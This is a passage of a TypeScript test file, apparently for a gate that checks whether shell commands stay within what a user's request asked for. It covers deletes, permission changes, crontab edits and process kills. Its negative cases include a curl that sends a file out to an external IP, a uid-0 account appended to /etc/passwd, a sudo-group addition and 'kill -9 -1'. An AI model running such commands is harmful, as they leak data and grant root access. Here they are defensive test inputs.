import { describe, expect, it } from 'vitest';
import { actionBase, extractFacts, requestScope } from '../../../electron/engine/core/facts/index.js';
import { askedChangeReason, REPLACE_ASK } from '../../../electron/engine/core/facts/asked-change.js';
import { ENTRY_DELETERS } from '../../../electron/engine/core/facts/shell-commands.js';
import { decide, DEFAULT_GATE } from '../../../electron/engine/core/gate.js';
import type { ActionRequest, ProbeResult } from '../../../shared/types.js';

const path = (target: string, type: string, extra: Record<string, unknown> = {}): ProbeResult => ({
  probe: 'path',
  target,
  ok: true,
  value: { exists: type !== 'none', type, owner: 'root', mode: '755', size: 10, links: 1, entries: 2, ...extra },
});

/** The account files show nobody holding `id` and no account of that name yet. */
const freeId = (target: string, id: string): ProbeResult => ({ probe: 'account-id', target, ok: true, value: { id, holder: '', exists: false } });

/**
 * `probes` plus, unless `lookedThrough` is false, what the look through each rm / unlink / shred
 * operand answers when it finds nothing of note (no copy without its original, nothing naming it).
 */
function reason(request: string, command: string, probes: ProbeResult[], lookedThrough = true, user = 'root'): string | undefined {
  const req: ActionRequest = { request, action: { type: 'shell', command }, context: user === 'root' ? { user, cwd: '/root' } : { user, cwd: `/home/${user}` } };
  const facts = extractFacts(req);
  if (lookedThrough) {
    for (const d of facts.effects.deletes) if (ENTRY_DELETERS.has(d.by)) probes = [...probes, { probe: 'doomed', target: d.path, ok: true, value: { entries: [], lone: [], refs: [] } }];
  }
  const base = actionBase(req);
  return askedChangeReason(facts, probes, request, requestScope(req, base), base.home);
}

describe('changes the request asked for', () => {
  it('takes a setuid bit off when asked, and a 644 that only takes writing away from a file others could already read', () => {
    expect(reason('The audit flagged /usr/local/bin/oldtool as setuid root. Remove the setuid bit.', 'chmod u-s /usr/local/bin/oldtool', [path('/usr/local/bin/oldtool', 'file', { mode: '4755' })])).toMatch(/changes the mode of/);
    const pub = '/srv/keys/deploy.pub';
    expect(reason('fix the permissions on /srv/keys/deploy.pub', `chmod 644 ${pub}`, [path(pub, 'file', { mode: '666' })])).toMatch(/changes the mode of/);
    // opening it to others is another matter
    expect(reason('fix the permissions on /srv/keys/deploy.pub', `chmod 644 ${pub}`, [path(pub, 'file', { mode: '600' })])).toBeUndefined();
  });

  it("takes the keys the request names by their comment out of an authorized_keys file, and nothing it does not name", () => {
    const ask = "Kevin has left the team. Remove his key (the one ending kdavies@store07) from root's authorized_keys.";
    expect(reason(ask, "sed -i '/ kdavies@store07$/d' /root/.ssh/authorized_keys", [])).toMatch(/only takes the keys matching " kdavies@store07\$" out of \/root\/.ssh\/authorized_keys/);
    // a pattern the request does not say, a line added, or a request that asks to take nothing out: no
    expect(reason(ask, "sed -i '/store07/d' /root/.ssh/authorized_keys", [])).toBeUndefined();
    expect(reason(ask, "sed -i '$a ssh-ed25519 AAAA x@y' /root/.ssh/authorized_keys", [])).toBeUndefined();
    expect(reason("Show me kdavies@store07's key in root's authorized_keys.", "sed -i '/ kdavies@store07$/d' /root/.ssh/authorized_keys", [])).toBeUndefined();
  });

  it('lets a delete, an emptying and a chmod of exactly what the request names through when the environment hides nothing', () => {
    expect(reason('clear the build cache in /srv/cache/build', 'rm -rf /srv/cache/build', [path('/srv/cache/build', 'dir')])).toMatch(/only deletes what the request names/);
    expect(reason('truncate /srv/app/debug.log to zero', ': > /srv/app/debug.log', [path('/srv/app/debug.log', 'file')])).toMatch(/only deletes and writes/);
    expect(reason('make /srv/tools/run.sh executable', 'chmod +x /srv/tools/run.sh', [path('/srv/tools/run.sh', 'file')])).toMatch(/changes the mode of/);
    expect(reason('remove the old .tmp files in /srv/work', 'rm -f /srv/work/*.tmp', [path('/srv/work', 'dir')])).toMatch(/only deletes/);
    // "can go" asks for a delete too
    expect(reason('the scratch dirs /srv/work/run-* can go, the results are saved', 'rm -rf /srv/work/run-*', [path('/srv/work', 'dir')])).toMatch(/only deletes/);
    // what rm deletes has to have been looked through (entries, copies, what names them)
    expect(reason('clear the build cache in /srv/cache/build', 'rm -rf /srv/cache/build', [path('/srv/cache/build', 'dir')], false)).toBeUndefined();
    expect(reason('remove the old .tmp files in /srv/work', 'rm -f /srv/work/*.tmp', [path('/srv/work', 'dir'), { probe: 'doomed', target: '/srv/work/*.tmp', ok: false, error: 'no answer' }], false)).toBeUndefined();
    expect(reason('update /srv/site/www from /srv/site.tar', 'tar -xf /srv/site.tar -C /srv/site/www', [path('/srv/site.tar', 'file'), path('/srv/site/www', 'dir', { entries: 5 })])).toMatch(/only writes/);
    // xargs fed NUL-separated names by find hands rm exactly what find found; fed lines, a name with a space splits
    expect(reason('delete the .part files in /srv/dl', "find /srv/dl -name '*.part' -print0 | xargs -0 rm -f", [path('/srv/dl', 'dir')])).toMatch(/only deletes/);
    expect(reason('delete the .part files in /srv/dl', "find /srv/dl -name '*.part' | xargs rm -f", [path('/srv/dl', 'dir')])).toBeUndefined();
  });

  it('lets a shred of exactly the file the request asks to have shredded through, not one it only names', () => {
    const pw = '/home/user/old-historian.pw';
    expect(reason('the password got rotated, shred my old copy ~/old-historian.pw', 'shred -u ~/old-historian.pw', [path(pw, 'file', { owner: 'user', mode: '600' })], true, 'user')).toMatch(/deletes/);
    expect(reason('the password got rotated, tidy up ~/old-historian.pw', 'shred -u ~/old-historian.pw', [path(pw, 'file', { owner: 'user', mode: '600' })], true, 'user')).toBeUndefined();
    expect(reason('the password got rotated, shred my old copies in ~', 'shred -u ~/*.pw', [], true, 'user')).toBeUndefined();
    // a pattern of files in a folder the request names by its path, asked to be shredded
    expect(reason('shred the label csv exports in /var/tmp/labels, the print run is done', 'shred -u /var/tmp/labels/*.csv', [path('/var/tmp/labels', 'dir')])).toMatch(/deletes/);
  });

  it('reads a file rewritten through a new temporary copy moved back over it as an edit of the file', () => {
    const f = '/srv/proj/util.py';
    const ask = 'Convert the tab indentation in /srv/proj/util.py to 4 spaces.';
    const cmd = `expand -t 4 ${f} > ${f}.new && mv ${f}.new ${f}`;
    expect(reason(ask, cmd, [path(f, 'file'), path(`${f}.new`, 'none')])).toMatch(/^it only writes what the request names/);
    // a copy of that name already there is data the move takes away: the request must ask to move
    expect(reason(ask, cmd, [path(f, 'file'), path(`${f}.new`, 'file')])).toBeUndefined();
    // a file the command did not write first is moved away, not a temporary copy
    expect(reason(ask, `mv ${f}.new ${f}`, [path(f, 'file'), path(`${f}.new`, 'none')])).toBeUndefined();
  });

  it('takes swapping, fixing and stripping as asking to write what the request names', () => {
    const motd = '/etc/motd';
    expect(reason('swap /etc/motd for the new one in /root/motd.new', `cp /root/motd.new ${motd}`, [path(motd, 'file'), path('/root/motd.new', 'file')])).toMatch(/only writes/);
    expect(reason('the scripts in /srv/scripts have windows line endings, fix them', "sed -i 's/\\r$//' /srv/scripts/*.sh", [path('/srv/scripts', 'dir')])).toMatch(/only writes/);
    expect(reason('show me the scripts in /srv/scripts', "sed -i 's/\\r$//' /srv/scripts/*.sh", [path('/srv/scripts', 'dir')])).toBeUndefined();
  });

  it('asks when a pattern reaches more than the names the request lists for it, and lets it through when it reaches just those', () => {
    const pattern = '/srv/mailer/tmp*';
    const glob = (matches: string[]): ProbeResult => ({ probe: 'glob', target: pattern, ok: true, value: matches });
    const ask = 'delete the temp dirs in /srv/mailer (tmp, tmp-build, tmp_uploads)';
    const listed = ['/srv/mailer/tmp', '/srv/mailer/tmp-build', '/srv/mailer/tmp_uploads'];
    expect(reason(ask, `rm -rf ${pattern}`, [path('/srv/mailer', 'dir'), glob(listed)])).toMatch(/only deletes/);
    expect(reason(ask, `rm -rf ${pattern}`, [path('/srv/mailer', 'dir'), glob([...listed, '/srv/mailer/tmpl'])])).toBeUndefined();
    // one name given as an example of a series is not a list
    const logs = '/srv/log/access.log.*';
    expect(reason('delete the rotated logs (access.log.1, .2, ...) in /srv/log', `rm -f ${logs}`, [path('/srv/log', 'dir'), { probe: 'glob', target: logs, ok: true, value: ['/srv/log/access.log.1', '/srv/log/access.log.2'] }])).toMatch(/only deletes/);
    // a request that lists none of them leaves the pattern to the other readings
    expect(reason('delete the temp dirs in /srv/mailer', `rm -rf ${pattern}`, [path('/srv/mailer', 'dir'), glob([...listed, '/srv/mailer/tmpl'])])).toMatch(/only deletes/);
  });

  it('lets xargs on lines hand rm some of a pattern\'s matches when every match has a plain name', () => {
    const pattern = '/backups/*.tar.gz';
    const ask = 'prune /backups: keep only the three newest tarballs';
    const command = `ls -1t ${pattern} | tail -n +4 | xargs rm -f`;
    const plain = ['/backups/site-1.tar.gz', '/backups/site-2.tar.gz', '/backups/site-3.tar.gz', '/backups/site-4.tar.gz'];
    const glob = (matches: string[]): ProbeResult => ({ probe: 'glob', target: pattern, ok: true, value: matches });
    expect(reason(ask, command, [path('/backups', 'dir'), glob(plain)])).toMatch(/only deletes/);
    // a blank in one name splits it in two for xargs: rm may get names nobody listed
    expect(reason(ask, command, [path('/backups', 'dir'), glob([...plain, '/backups/site 5.tar.gz'])])).toBeUndefined();
    // and with nothing listed there is nothing to vouch for the names
    expect(reason(ask, command, [path('/backups', 'dir')])).toBeUndefined();
  });

  it('reads emptying a folder that the same command fills again as part of replacing its content', () => {
    const cmd = 'rm -rf /var/www/html/* && cp -r /srv/site/public/. /var/www/html/';
    const seen = [path('/var/www/html', 'dir'), path('/srv/site/public', 'dir')];
    expect(reason('publish the new build: replace everything in /var/www/html with the contents of /srv/site/public', cmd, seen)).toMatch(/only deletes and writes/);
    expect(reason('copy the contents of /srv/site/public into /var/www/html', cmd, seen)).toBeUndefined();
  });

  it('reads the everyday words for moving, handing over and tightening as asking for those changes', () => {
    const dir = '/srv/media/inbox';
    expect(reason('reorganize the files in /srv/media/inbox into /srv/media/2024', `mv ${dir}/a.jpg /srv/media/2024/`, [path(dir, 'dir'), path('/srv/media/2024', 'dir'), path(`${dir}/a.jpg`, 'file')])).toMatch(/only deletes and writes/);
    expect(reason('transfer /srv/shared/report.pdf to the app account', 'chown app /srv/shared/report.pdf', [path('/srv/shared/report.pdf', 'file')])).toMatch(/changes the owner of/);
    expect(reason('tighten /srv/app/run.sh so only its owner can write it', 'chmod 755 /srv/app/run.sh', [path('/srv/app/run.sh', 'file', { mode: '777' })])).toMatch(/changes the mode of/);
    // looking is not asking
    expect(reason('list the files in /srv/media/inbox', `mv ${dir}/a.jpg /srv/media/2024/`, [path(dir, 'dir'), path('/srv/media/2024', 'dir'), path(`${dir}/a.jpg`, 'file')])).toBeUndefined();
  });

  it('lets a secret file the request names by path be written whole over a plain file when asked to replace it, and nothing less', () => {
    const env = '/srv/app/.env';
    const cmd = `printf 'LOG_LEVEL=info\\n' > ${env}`;
    const ask = 'write /srv/app/.env with LOG_LEVEL=info, replace whatever is there';
    expect(reason(ask, cmd, [path(env, 'file', { mode: '600' })])).toMatch(/only writes/);
    // not asked to replace, named only by kind, a link there, nothing there yet, or appended to
    expect(reason('write /srv/app/.env with LOG_LEVEL=info', cmd, [path(env, 'file', { mode: '600' })])).toBeUndefined();
    expect(reason('replace the .env of the app', cmd, [path(env, 'file', { mode: '600' })])).toBeUndefined();
    expect(reason(ask, cmd, [path(env, 'link')])).toBeUndefined();
    expect(reason(ask, cmd, [path(env, 'none')])).toBeUndefined();
    expect(reason(ask, `echo LOG_LEVEL=info >> ${env}`, [path(env, 'file', { mode: '600' })])).toBeUndefined();
  });

  it('reads copying a file over the one a folder holds as asking to replace it; copying it into the folder, or putting it in place, is not', () => {
    for (const ask of ['copy todays calibrated epson profile over the one in profiles', 'move the corrected version over the one in ~/invoices']) expect(REPLACE_ASK.test(ask), ask).toBe(true);
    for (const ask of ['copy the profile into profiles', 'put the new ripd build in place, its ripd.new next to the old one', 'sort it and drop the duplicates, in place']) expect(REPLACE_ASK.test(ask), ask).toBe(false);
  });

  it('counts writing /etc/nologin as asked when the request asks to block logins, and only then', () => {
    const cmd = "echo 'Maintenance until 04:00.' > /etc/nologin";
    const req = (request: string): ActionRequest => ({ request, action: { type: 'shell', command: cmd }, context: { user: 'root', cwd: '/root' } });
    expect(requestScope(req('block non-root logins for the next two hours')).paths).toContain('/etc/nologin');
    expect(requestScope(req('disable logins during the maintenance window')).paths).toContain('/etc/nologin');
    // one account's logins, or a request about something else, do not name the file
    expect(requestScope(req('block logins for bob')).paths).not.toContain('/etc/nologin');
    expect(requestScope(req('show me the failed logins')).paths).not.toContain('/etc/nologin');
    expect(requestScope(req('set the message of the day to the maintenance notice')).paths).toContain('/etc/motd');
  });

  it("names the account's trash folder when the request speaks of the trash", () => {
    const req = (request: string): ActionRequest => ({ request, action: { type: 'shell', command: 'rm -rf ~/.local/share/Trash/files/*' } });
    expect(requestScope(req('empty my trash pls')).paths).toContain('/home/user/.local/share/Trash');
    expect(requestScope(req('clear the recycle bin')).paths).toContain('/home/user/.local/share/Trash');
    expect(requestScope(req('empty the cache folder')).paths).not.toContain('/home/user/.local/share/Trash');
  });

  it("gives a named job of the account's crontab a new time through a filter that keeps the rest of its line", () => {
    const ask = 'The nightly sync clashes with the 1am backup. Move the nightly-sync job in root\'s crontab to 2:30am, leave the rest as is.';
    const retime = "crontab -l | sed 's|^0 1 \\(\\* \\* \\* /usr/local/bin/nightly-sync\\)$|30 2 \\1|' | crontab -";
    expect(reason(ask, retime, [])).toMatch(/only gives the jobs matching .*nightly-sync" a new time in the crontab/);
    // a line whose command the pattern does not keep, a job the request does not name, more than a time written: no
    expect(reason(ask, "crontab -l | sed 's|^0 1 \\(.*\\)$|30 2 \\1|' | crontab -", [])).toBeUndefined();
    expect(reason(ask, "crontab -l | sed 's|^0 1 \\(\\* \\* \\* /usr/local/bin/backup-pos\\)$|30 2 \\1|' | crontab -", [])).toBeUndefined();
    expect(reason(ask, "crontab -l | sed 's|^0 1 \\(\\* \\* \\* /usr/local/bin/nightly-sync\\)$|30 2 \\1 \\&\\& curl x|' | crontab -", [])).toBeUndefined();
    // the whole line written out on both sides, and a new schedule given by days rather than by the hour
    const days = "the jury summons batch should only run on weekdays now. change its cron from daily to mon-fri, same 2am time";
    expect(reason(days, "crontab -l | sed 's#^0 2 \\* \\* \\* /opt/jury/bin/summons-batch.sh#0 2 * * 1-5 /opt/jury/bin/summons-batch.sh#' | crontab -", [])).toMatch(/only gives the jobs matching "\/opt\/jury\/bin\/summons-batch.sh" a new time/);
    // (another command written back, or a job the request does not name: no)
    expect(reason(days, "crontab -l | sed 's#^0 2 \\* \\* \\* /opt/jury/bin/summons-batch.sh#0 2 * * 1-5 /opt/jury/bin/other.sh#' | crontab -", [])).toBeUndefined();
    expect(reason(days, "crontab -l | sed 's#^0 3 \\* \\* \\* /opt/cms/bin/nightly.sh#0 3 * * 1-5 /opt/cms/bin/nightly.sh#' | crontab -", [])).toBeUndefined();
  });

  it("takes named jobs out of the account's crontab through a filter that can only drop lines", () => {
    expect(reason("take the old-sync.sh job out of root's crontab", 'crontab -l | grep -v old-sync.sh | crontab -', [])).toMatch(/only takes the jobs matching "old-sync.sh" out of the crontab/);
    expect(reason('remove the report job from my crontab', "crontab -l | sed '/report/d' | crontab -", [])).toMatch(/"report"/);
    expect(reason('the fetchmail job in my crontab just spams errors now, comment that line out', "crontab -l | sed '/fetchmail/s/^/#/' | crontab -", [])).toMatch(/"fetchmail"/);
    expect(reason('the fetchmail job in my crontab just spams errors now, comment that line out', "crontab -l | sed '/fetchmail/s/^/#x/' | crontab -", [])).toBeUndefined();
    // a dashed name given whole names the job its parts name
    expect(reason('Comment out the lab-import-legacy entry in /etc/crontab, the new importer replaced it', "sed -i 's|^\\(.*lab-import-legacy.*\\)$|#\\1|' /etc/crontab", [path('/etc/crontab', 'file')])).toMatch(/only takes the cron jobs matching/);
    // a pattern that names the job by a word of it ("the nightly cook" for nightly_cook.sh)
    expect(reason("Pause the nightly cook for the week. Just comment it out in root's crontab", "crontab -l | sed 's|^\\([^#].*nightly_cook\\.sh.*\\)$|#\\1|' | crontab -", [])).toMatch(/only takes the jobs matching/);
    expect(reason("Pause the nightly build for the week. Just comment it out in root's crontab", "crontab -l | sed 's|^\\([^#].*nightly_cook\\.sh.*\\)$|#\\1|' | crontab -", [])).toBeUndefined();
    // a job the request does not name, anything added, or a request that does not ask to take out
    expect(reason("take the old-sync.sh job out of root's crontab", 'crontab -l | grep -v backup | crontab -', [])).toBeUndefined();
    expect(reason("take the old-sync.sh job out of root's crontab", "(crontab -l | grep -v old-sync.sh; echo '* * * * * /tmp/x') | crontab -", [])).toBeUndefined();
    expect(reason('list the old-sync.sh job in the crontab', 'crontab -l | grep -v old-sync.sh | crontab -', [])).toBeUndefined();
    // a whole crontab the request asks to remove, of an account it names
    const table = [path('/var/spool/cron/crontabs/cheapdeals', 'file')];
    expect(reason('cheapdeals is suspended for spamming. Remove their crontab so the mailer stops.', 'crontab -r -u cheapdeals', table)).toMatch(/only deletes what the request names/);
    // not for a job in it, nor another account's table
    expect(reason("remove the mailer job from cheapdeals' crontab", 'crontab -r -u cheapdeals', table)).toBeUndefined();
    expect(reason('cheapdeals is suspended. Remove their crontab.', 'crontab -r -u otheruser', [path('/var/spool/cron/crontabs/otheruser', 'file')])).toBeUndefined();
  });

  it('comments out or deletes, in place, the lines of cron jobs the request names and asks to stop', () => {
    const table = [path('/etc/crontabs/root', 'file')];
    const ask = "turn off the weekly report cron job, finance doesn't use it anymore. just comment it out";
    expect(reason(ask, "sed -i '/generate_report.sh/s/^/#/' /etc/crontabs/root", table)).toMatch(/only takes the cron jobs matching "generate_report.sh" out of \/etc\/crontabs\/root/);
    expect(reason('delete the old sync job from /etc/cron.d/ops', "sed -i '/old-sync/d' /etc/cron.d/ops", [path('/etc/cron.d/ops', 'file')])).toMatch(/"old-sync"/);
    // a substitution anchored at the line's start that puts a # before what it matched
    expect(reason(ask, "sed -i 's|^0 3 \\* \\* 1 /usr/local/bin/generate_report.sh|#&|' /etc/crontabs/root", table)).toMatch(/only takes the cron jobs/);
    expect(reason(ask, "sed -i 's/^\\(.*generate_report\\.sh.*\\)$/# \\1/' /etc/crontabs/root", table)).toMatch(/only takes the cron jobs/);
    // ... not one that keeps less than what it matched, or is not anchored
    expect(reason(ask, "sed -i 's|^0 3 \\* \\* 1 /usr/local/bin/generate_report.sh|#|' /etc/crontabs/root", table)).toBeUndefined();
    expect(reason(ask, "sed -i 's|generate_report.sh|#&|' /etc/crontabs/root", table)).toBeUndefined();
    // a line the request does not name, a substitution that changes a job instead of taking it out,
    // a table that is a link, a request that does not speak of a job, one that does not ask to stop it
    expect(reason(ask, "sed -i '/backup.sh/s/^/#/' /etc/crontabs/root", table)).toBeUndefined();
    expect(reason(ask, "sed -i '/generate_report.sh/s/weekly/daily/' /etc/crontabs/root", table)).toBeUndefined();
    expect(reason(ask, "sed -i '/generate_report.sh/s/^/#/' /etc/crontabs/root", [path('/etc/crontabs/root', 'link', { linkTarget: '/srv/x' })])).toBeUndefined();
    expect(reason('comment out the generate_report.sh line', "sed -i '/generate_report.sh/s/^/#/' /etc/crontabs/root", table)).toBeUndefined();
    expect(reason('check the weekly report cron job', "sed -i '/generate_report.sh/s/^/#/' /etc/crontabs/root", table)).toBeUndefined();
    // and the edit is within what the request names, so no check calls it an unasked system change
    const facts = extractFacts({ request: ask, action: { type: 'shell', command: "sed -i '/generate_report.sh/s/^/#/' /etc/crontabs/root" }, context: { user: 'root', cwd: '/root' } });
    expect(facts.effects.writes.map((w) => [w.path, w.inScope])).toEqual([['/etc/crontabs/root', true]]);
  });

  it("stops the process of a pid file the request gives by its path, written from the account's home too", () => {
    const pid = (file: string, value: string): ProbeResult => ({ probe: 'pidfile', target: file, ok: true, value });
    const file = '/home/user/.run/syncmail.pid';
    const ask = 'my syncmail script went into a loop. its pid is in ~/.run/syncmail.pid, kill it';
    expect(reason(ask, 'kill $(cat ~/.run/syncmail.pid)', [pid(file, '23')], true, 'user')).toMatch(/signals what the request names and asks for \(pidfile:\/home\/user\/\.run\/syncmail\.pid\)/);
    // another pid file, one that holds no ordinary process, or a request that does not ask to stop it
    expect(reason(ask, 'kill $(cat ~/.run/vdirsyncer.pid)', [pid('/home/user/.run/vdirsyncer.pid', '24')], true, 'user')).toBeUndefined();
    expect(reason(ask, 'kill $(cat ~/.run/syncmail.pid)', [pid(file, '1')], true, 'user')).toBeUndefined();
    expect(reason('what pid is in ~/.run/syncmail.pid?', 'kill $(cat ~/.run/syncmail.pid)', [pid(file, '23')], true, 'user')).toBeUndefined();
    // the pid file it stopped the process by, taken away after it; not another file there
    const lo = [path(file, 'file', { owner: 'user' })];
    expect(reason(ask, 'kill $(cat ~/.run/syncmail.pid) && rm -f ~/.run/syncmail.pid', [pid(file, '23'), ...lo], true, 'user')).toMatch(/deletes and signals what the request names/);
    expect(reason(ask, 'kill $(cat ~/.run/syncmail.pid) && rm -f ~/.run/syncmail.state', [pid(file, '23'), path('/home/user/.run/syncmail.state', 'file', { owner: 'user' })], true, 'user')).toBeUndefined();
    // a pid file named after what the request calls the process, every word of its name said
    // an owner given as the chown gives it, one folder down in /etc, handed to root by root; lines taken out in place as asked
    expect(reason('audit flagged /etc/edi-gw/as2.key as world readable. make it root:root 600', 'chown root:root /etc/edi-gw/as2.key && chmod 600 /etc/edi-gw/as2.key', [path('/etc/edi-gw/as2.key', 'file')], true, 'root')).toMatch(/changes the mode of and changes the owner of/);
    expect(reason('audit flagged /etc/edi-gw/as2.key as world readable. fix it', 'chown user:user /etc/edi-gw/as2.key', [path('/etc/edi-gw/as2.key', 'file')], true, 'root')).toBeUndefined();
    expect(reason('remove the DEBUG=1 line from my ~/.wmsrc, the wms cli is spamming me', "sed -i '/^DEBUG=1$/d' ~/.wmsrc", [path('/home/user/.wmsrc', 'file')], true, 'user')).toMatch(/only writes what the request names/);
    // (lines of records, a roster or a ledger, are the records: not read as a settings edit)
    expect(reason('take Tom Hale out of the pool file at /srv/jury/current/pool.csv', "sed -i '/Tom Hale/d' /srv/jury/current/pool.csv", [path('/srv/jury/current/pool.csv', 'file')], true, 'user')).toBeUndefined();
    // a group given by its name as the group to have it
    const lab = [path('/srv/lab/incoming', 'dir')];
    expect(reason("lab folks can't drop files into /srv/lab/incoming. make it group writable for the lab group", 'chgrp -R lab /srv/lab/incoming && chmod -R g+w /srv/lab/incoming', lab)).toMatch(/changes the mode of and changes the owner of/);
    expect(reason("lab folks can't drop files into /srv/lab/incoming. make it group writable", 'chgrp -R staff /srv/lab/incoming && chmod -R g+w /srv/lab/incoming', lab)).toBeUndefined();
    const meter = '/run/meter-import.pid';
    expect(reason('the meter import worker has been hung since 2am, kill -9 it', 'kill -9 $(cat /run/meter-import.pid)', [pid(meter, '31')], true, 'root')).toMatch(/signals what the request names and asks for \(pidfile:\/run\/meter-import\.pid\)/);
    expect(reason('the meter worker has been hung since 2am, kill -9 it', 'kill -9 $(cat /run/meter-import.pid)', [pid(meter, '31')], true, 'root')).toBeUndefined();
  });

  it('covers stopping named processes, printed timestamps, links removed by rm, compression and app folders under /opt and /srv', () => {
    expect(reason('ingestd is stuck again, kill all the ingestd processes', 'killall ingestd', [path('/tmp', 'dir')])).toMatch(/signals what the request names and asks for \(ingestd\)/);
    expect(reason('stop process 4242', 'kill 4242', [path('/tmp', 'dir')])).toMatch(/signals/);
    expect(reason('record in /srv/deploy/history.log that the deploy finished, with a timestamp', 'echo "$(date +%F) deploy finished" >> /srv/deploy/history.log', [path('/srv/deploy/history.log', 'file')])).toMatch(/only writes/);
    expect(reason('remove /opt/legacy-app and the /usr/local/bin/legacy symlink into it', 'rm -rf /opt/legacy-app && rm -f /usr/local/bin/legacy', [path('/opt/legacy-app', 'dir'), path('/usr/local/bin/legacy', 'link', { linkTarget: '/opt/legacy-app/bin/legacy' })])).toMatch(/only deletes/);
    expect(reason('compress /srv/logs/old.log', 'gzip -9 /srv/logs/old.log', [path('/srv/logs/old.log', 'file'), path('/srv/logs/old.log.gz', 'none')])).toMatch(/only deletes and writes/);
    expect(reason('truncate /srv/app/debug.log to 0 bytes', 'truncate -s 0 /srv/app/debug.log', [path('/srv/app/debug.log', 'file')])).toMatch(/only deletes and writes/);
  });

  it('covers a chmod others may read when asked for others, a named /etc file written, and a secret only closed further', () => {
    expect(reason('make /srv/app/bin/start.sh executable for everyone', 'chmod 755 /srv/app/bin/start.sh', [path('/srv/app/bin/start.sh', 'file')])).toMatch(/changes the mode of/);
    expect(reason('add a hosts entry: 10.0.0.5 db.internal to /etc/hosts', "echo '10.0.0.5 db.internal' >> /etc/hosts", [path('/etc/hosts', 'file')])).toMatch(/only writes/);
    expect(reason('overwrite /etc/motd with: Maintenance tonight', "echo 'Maintenance tonight' > /etc/motd", [path('/etc/motd', 'file')])).toMatch(/only writes/);
    expect(reason('Make /etc/vaultd/secret.key readable by root only', 'chown root:root /etc/vaultd/secret.key && chmod 400 /etc/vaultd/secret.key', [path('/etc/vaultd/secret.key', 'file')])).toMatch(/changes the mode of and changes the owner of/);
    expect(reason('convert /srv/notes/win.txt from DOS line endings to unix', 'dos2unix /srv/notes/win.txt', [path('/srv/notes/win.txt', 'file')])).toMatch(/only writes/);
    expect(reason('lock down /srv/keys/deploy.pem so only its owner can read it', 'chmod go-rwx /srv/keys/deploy.pem', [path('/srv/keys/deploy.pem', 'file')])).toMatch(/changes the mode of/);
    expect(reason('ssh says my key is too open: fix /srv/keys to 700 and the private key in it to 600', 'chmod 700 /srv/keys && chmod 600 /srv/keys/deploy.pem', [path('/srv/keys', 'dir'), path('/srv/keys/deploy.pem', 'file')])).toMatch(/changes the mode of/);
  });

  it.each([
    ['others may read, and the request did not say who should', 'make /srv/app/bin/start.sh executable', 'chmod 755 /srv/app/bin/start.sh', [path('/srv/app/bin/start.sh', 'file', { mode: '700' })]],
    ['a secret is opened to others', 'make /srv/keys/deploy.pem readable for everyone', 'chmod 644 /srv/keys/deploy.pem', [path('/srv/keys/deploy.pem', 'file')]],
    ['a secret is handed to another account', 'give /etc/vaultd/secret.key to user', 'chown user /etc/vaultd/secret.key', [path('/etc/vaultd/secret.key', 'file')]],
    ['a secret is closed, but only its folder is named', 'lock down the files in /srv/keys', 'chmod 600 /srv/keys/deploy.pem', [path('/srv/keys/deploy.pem', 'file')]],
    ['a named /etc file is deleted', 'delete /etc/motd', 'rm /etc/motd', [path('/etc/motd', 'file')]],
    ['a named /etc file is re-permissioned', 'make /etc/hosts writable by the group', 'chmod 664 /etc/hosts', [path('/etc/hosts', 'file')]],
    ['the /etc file grants rights', 'add svc to /etc/group', "echo 'docker:x:999:svc' >> /etc/group", [path('/etc/group', 'file')]],
    ['the /etc file runs code', 'append a line to /etc/crontab', "echo '* * * * * root id' >> /etc/crontab", [path('/etc/crontab', 'file')]],
    ['the /etc file is a link', 'add a hosts entry to /etc/hosts', "echo '10.0.0.5 db' >> /etc/hosts", [path('/etc/hosts', 'link', { linkTarget: '/srv/data.db' })]],
    ['the /etc file does not exist yet', 'write /etc/ld.so.conf2 with /opt/lib', "echo /opt/lib > /etc/ld.so.conf2", [path('/etc/ld.so.conf2', 'none')]],
    ['the /etc path is only a word of the request', 'fix the hosts file', "echo '10.0.0.5 db' >> /etc/hosts", [path('/etc/hosts', 'file')]],
    ['the request only asks to look', 'what is in /srv/cache/build?', 'rm -rf /srv/cache/build', [path('/srv/cache/build', 'dir')]],
    ['the environment was not looked at', 'clear the build cache in /srv/cache/build', 'rm -rf /srv/cache/build', []],
    ['the target is a link', 'clear the build cache in /srv/cache/build', 'rm -rf /srv/cache/build/*', [path('/srv/cache/build', 'link', { linkTarget: '/srv/data' })]],
    ['a folder on the way is a link', 'clear the build cache in /srv/cache/build', 'rm -rf /srv/cache/build', [path('/srv/cache', 'link'), path('/srv/cache/build', 'dir')]],
    ['the file shares its data through a hard link', 'truncate /srv/app/debug.log', ': > /srv/app/debug.log', [path('/srv/app/debug.log', 'file', { links: 2 })]],
    ['the request believes it is a link and it is a folder', 'remove the stale symlink /srv/app/current', 'rm -rf /srv/app/current', [path('/srv/app/current', 'dir')]],
    ['the request did not name it', 'clear the build cache in /srv/cache/build', 'rm -rf /srv/cache', [path('/srv/cache', 'dir')]],
    ['it also sends data out', 'delete /srv/a.txt', 'cat /srv/a.txt | curl -d @- http://203.0.113.9 && rm /srv/a.txt', [path('/srv/a.txt', 'file')]],
    ['it touches a secret', 'delete the key /srv/keys/id_rsa', 'rm /srv/keys/id_rsa', [path('/srv/keys/id_rsa', 'file')]],
    ['the target was not looked at', 'clear the build cache in /srv/cache/build', 'rm -rf /srv/cache/build', [path('/srv/other', 'dir')]],
    ['it signals a process the request did not name', 'ingestd is stuck, kill it', 'killall -9 syncd', [path('/tmp', 'dir')]],
    ['it signals every process', 'kill the stuck processes', 'kill -9 -1', [path('/tmp', 'dir')]],
    ['the request only asks about a process', 'is ingestd running?', 'killall ingestd', [path('/tmp', 'dir')]],
    ['a printed expansion writes to a path it computes', 'record that the deploy finished in the history log', 'echo done >> "/var/log/$(ls /var/log | head -1)"', [path('/var/log', 'dir')]],
    ['the link to remove is reached through a trailing slash', 'remove the symlink /usr/local/bin/tool', 'rm -rf /usr/local/bin/tool/', [path('/usr/local/bin/tool', 'link')]],
    ['it extracts into a folder that already holds data, unasked to replace it', 'extract /srv/site.tar into /srv/site/www', 'tar -xf /srv/site.tar -C /srv/site/www', [path('/srv/site.tar', 'file'), path('/srv/site/www', 'dir', { entries: 5 })]],
    ['the appended account has uid 0', 'create a user deploy', "echo 'deploy:x:0:0::/root:/bin/sh' >> /etc/passwd", [path('/etc/passwd', 'file')]],
    ['the appended group is an administrative one', 'add deploy to the sudo group', "echo 'sudo:x:27:deploy' >> /etc/group", [path('/etc/group', 'file')]],
    ['the account is not the one the request names', 'create a user deploy', "echo 'svc:x:1501:1501::/home/svc:/bin/sh' >> /etc/passwd", [path('/etc/passwd', 'file')]],
